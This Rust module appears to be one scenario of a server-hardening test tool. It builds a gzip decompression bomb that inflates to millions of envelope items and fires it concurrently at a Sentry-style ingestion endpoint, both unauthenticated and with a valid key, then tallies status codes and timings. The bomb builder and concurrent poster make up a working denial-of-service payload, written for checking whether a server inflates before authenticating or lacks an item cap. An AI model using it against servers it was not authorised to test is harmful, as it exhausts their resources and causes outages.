//! Scenario `bomb`: a small gzip body that inflates to millions of one-line items, posted by several
//! clients at once, first without credentials (a server that inflates before it authenticates does all
//! the work for nobody) and then with the valid key (a server without an item cap parses them all).

use std::io::Write as _;
use std::time::{Duration, Instant};

use anyhow::Result;
use bytes::Bytes;
use flate2::write::GzEncoder;
use flate2::Compression;
use futures::future::join_all;

use crate::report::{spread, tally, Ending};
use crate::target::Target;

/// An envelope header with no `dsn`, so the body itself carries no credentials either.
const ENVELOPE_HEADER: &[u8] = b"{}\n";
/// With an implicit length each item is this header line plus the next line as its payload.
const ITEM_LINE: &[u8] = b"{\"type\":\"x\"}\n";
/// Lines handed to the encoder per write; the content is one line repeated, so any size will do.
const LINES_PER_WRITE: usize = 4096;

/// The gzip body and what it inflates to.
pub struct Bomb {
    pub gzip: Bytes,
    pub inflated_bytes: usize,
    pub lines: usize,
}

pub fn build_bomb(lines: usize) -> Result<Bomb> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(ENVELOPE_HEADER)?;
    let block = ITEM_LINE.repeat(LINES_PER_WRITE);
    let mut remaining = lines;
    while remaining > 0 {
        let count = remaining.min(LINES_PER_WRITE);
        encoder.write_all(&block[..count * ITEM_LINE.len()])?;
        remaining -= count;
    }
    Ok(Bomb {
        gzip: Bytes::from(encoder.finish()?),
        inflated_bytes: ENVELOPE_HEADER.len() + lines * ITEM_LINE.len(),
        lines,
    })
}

/// What one wave of simultaneous posts got back.
pub struct WaveOutcome {
    pub endings: Vec<Ending>,
    pub answer_times: Vec<Duration>,
    /// The first `X-Sentry-Error` (or body) of an error answer, to tell "401" from "too many items".
    pub first_reason: Option<String>,
}

impl WaveOutcome {
    pub fn summary(&self) -> String {
        let reason = self
            .first_reason
            .as_deref()
            .map_or(String::new(), |reason| format!(" \"{reason}\""));
        format!(
            "{} in {}{reason}",
            tally(self.endings.clone()),
            spread(self.answer_times.clone())
        )
    }
}

/// Posts `bomb` `requests` times at once, with `auth` as `X-Sentry-Auth` when given.
pub async fn post_wave(
    target: &Target,
    bomb: &Bomb,
    requests: usize,
    auth: Option<&str>,
    timeout: Duration,
) -> Result<WaveOutcome> {
    let client = reqwest::Client::builder().timeout(timeout).build()?;
    let posts = (0..requests).map(|_| post_one(&client, target, bomb.gzip.clone(), auth));
    let results = join_all(posts).await;
    let first_reason = results.iter().find_map(|(_, _, reason)| reason.clone());
    Ok(WaveOutcome {
        endings: results.iter().map(|(ending, _, _)| ending.clone()).collect(),
        answer_times: results.iter().map(|(_, elapsed, _)| *elapsed).collect(),
        first_reason,
    })
}

async fn post_one(
    client: &reqwest::Client,
    target: &Target,
    body: Bytes,
    auth: Option<&str>,
) -> (Ending, Duration, Option<String>) {
    let started = Instant::now();
    let mut request = client
        .post(target.envelope_url.clone())
        .header("content-type", "application/x-sentry-envelope")
        .header("content-encoding", "gzip")
        .body(body);
    if let Some(auth) = auth {
        request = request.header("x-sentry-auth", auth);
    }
    match request.send().await {
        Ok(response) => {
            let status = response.status();
            let sentry_error = response
                .headers()
                .get("x-sentry-error")
                .and_then(|value| value.to_str().ok());
            let mut reason = sentry_error.map(str::to_owned);
            let text = response.text().await.unwrap_or_default();
            if reason.is_none() && !status.is_success() {
                reason = Some(text.chars().take(120).collect());
            }
            (Ending::Status(status.as_u16()), started.elapsed(), reason)
        }
        Err(error) if error.is_timeout() => (Ending::TimedOut, started.elapsed(), None),
        Err(error) if error.is_connect() => (Ending::ConnectFailed, started.elapsed(), None),
        Err(_) => (Ending::Closed, started.elapsed(), None),
    }
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn bomb_inflates_to_a_dsnless_header_and_the_requested_lines() {
        let bomb = build_bomb(10_000).expect("gzip");
        let mut inflated = Vec::new();
        GzDecoder::new(&bomb.gzip[..])
            .read_to_end(&mut inflated)
            .expect("valid gzip");
        assert_eq!(inflated.len(), bomb.inflated_bytes);
        assert!(inflated.starts_with(b"{}\n{\"type\":\"x\"}\n"));
        assert_eq!(inflated.iter().filter(|&&byte| byte == b'\n').count(), 10_001);
        assert!(bomb.gzip.len() * 100 < inflated.len());
    }
}
